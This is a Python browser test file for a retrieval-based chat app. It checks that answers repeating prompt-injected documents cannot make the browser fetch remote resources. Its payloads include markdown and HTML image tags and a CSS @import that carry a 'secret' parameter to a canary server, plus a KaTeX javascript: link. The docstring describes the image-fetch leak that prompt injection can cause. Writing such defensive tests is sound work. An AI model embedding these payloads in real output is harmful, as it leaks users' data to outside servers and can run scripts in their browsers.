"""What a page may make the browser do, checked in real Chromium: an answer (written by the
model from documents anyone can edit) that holds images or style sheets on another server
must not make the browser fetch them — the fetch's URL can carry what the page shows (a
prompt-injected document asking the model to "show this image" is the classic leak).

The hostile text is planted in a document the model retrieves and repeats: what the model
invents itself is already removed or marked by the grounding check (tests/test_grounding.py),
but text that the evidence holds passes that check, so the page itself must render it harmlessly.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.fakellm import Call, FakeLLM, Say
from tests.ui.conftest import ask, sign_in

pytestmark = pytest.mark.browser


def plant(app, folder, name: str, text: str) -> None:
    """Ingest a plain-text document holding ``text`` into the running app's knowledge base."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")
    report = app.ctx.kb.ingest([folder])
    assert {f.status for f in report.files} == {"ok"}, report.to_dict()


@pytest.fixture
def canary():
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()
    server.server_close()


def test_answers_cannot_make_the_browser_call_another_server(start_app, browser, canary, tmp_path):
    url, hits = canary
    llm = FakeLLM().start()
    try:
        app = start_app(llm="openai", openai={"model_server": llm.url, "model": "fake"})
        payload = (f"The floor price chart is ![chart]({url}/md-image.png?secret=41800) and "
                   f'<img src="{url}/html-image.png?secret=41800"> and '
                   f"<style>@import url({url}/style.css);</style> shown here")
        plant(app, tmp_path / "planted", "price_chart.txt", f"Floor price chart\n\n{payload}.\n")
        llm.enqueue(Call("doc_retrieve", {"query": "floor price chart"}), Say(f"{payload} [1]. Beacon-end."))
        page = browser.new_page()
        sign_in(page, app.url, "alice")
        ask(page, "What is the floor price?")
        page.get_by_text("Beacon-end").first.wait_for(timeout=30_000)
        page.wait_for_timeout(1500)
        assert hits == [], f"the page fetched {hits} from another server"
        page.goto(app.url + "/admin/")            # the console's pages carry the same policy
        page.close()
        admin = browser.new_page()
        sign_in(admin, app.url, "admin")
        admin.goto(app.url + "/admin/")
        admin.wait_for_selector("#kb-gloss-entries", timeout=30_000)
        admin.evaluate(f"() => {{ const i = new Image(); i.src = '{url}/from-console.png'; "
                       f"document.body.appendChild(i); }}")
        admin.wait_for_timeout(1000)
        assert hits == [], f"the console fetched {hits} from another server"
        admin.close()
    finally:
        llm.stop()


def test_text_between_dollar_signs_is_shown_as_written(start_app, browser, tmp_path):
    """The chat rendered $$…$$ as LaTeX (Gradio's default): text from documents, glossary fields
    and answers — already escaped as HTML — was reinterpreted by KaTeX (\\href, \\htmlClass, …)
    and shown as something else than it says. A knowledge-base chat shows text as written."""
    llm = FakeLLM().start()
    try:
        app = start_app(llm="openai", openai={"model_server": llm.url, "model": "fake"})
        literal = "$$\\href{javascript:alert(1)}{click here}$$ costs $$x^2$$"
        plant(app, tmp_path / "planted", "price_list.txt", f"Price list\n\nThe price list: {literal}.\n")
        llm.enqueue(Call("doc_retrieve", {"query": "price list"}), Say(f"The price list: {literal} [1]. Beacon-end."))
        page = browser.new_page()
        dialogs = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        sign_in(page, app.url, "alice")
        ask(page, "What does the price list say?")
        page.get_by_text("Beacon-end").first.wait_for(timeout=30_000)
        page.wait_for_timeout(800)
        assert literal in page.inner_text("#kb-chat")
        assert page.locator("#kb-chat .katex").count() == 0 and dialogs == []
        page.close()
    finally:
        llm.stop()
